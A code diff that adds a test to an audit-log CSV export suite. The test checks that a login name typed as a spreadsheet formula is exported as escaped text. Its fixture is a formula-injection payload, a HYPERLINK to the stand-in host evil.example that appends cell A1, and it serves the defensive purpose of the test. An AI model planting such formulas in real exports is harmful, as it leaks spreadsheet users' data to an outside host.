@@ -174,6 +174,16 @@ class AuditorExportTests:
         rows = list(csv.DictReader(io.StringIO(async_to_sync(body)().decode())))
         assert len(rows) == 6  # the five rows of the log and the login
 
+    def test_a_formula_typed_as_a_login_name_is_exported_as_text(self, client, auditor):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+        client.post(reverse("admin:login"), {"username": formula, "password": "wrong"})
+        failed = AuditLog.objects.get(action="auth.login_failed")
+        assert failed.target == formula  # the log itself keeps exactly what was typed
+        client.force_login(auditor)
+        response = self.export(client, selected=[failed.pk], select_across=False)
+        (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+        assert row["target"] == "'" + formula  # a spreadsheet shows it as text instead of running it
+
     def test_needs_the_export_permission(self, client, log):
         viewer = make_user("vera")
         viewer.user_permissions.add(Permission.objects.get(codename="view_auditlog"))
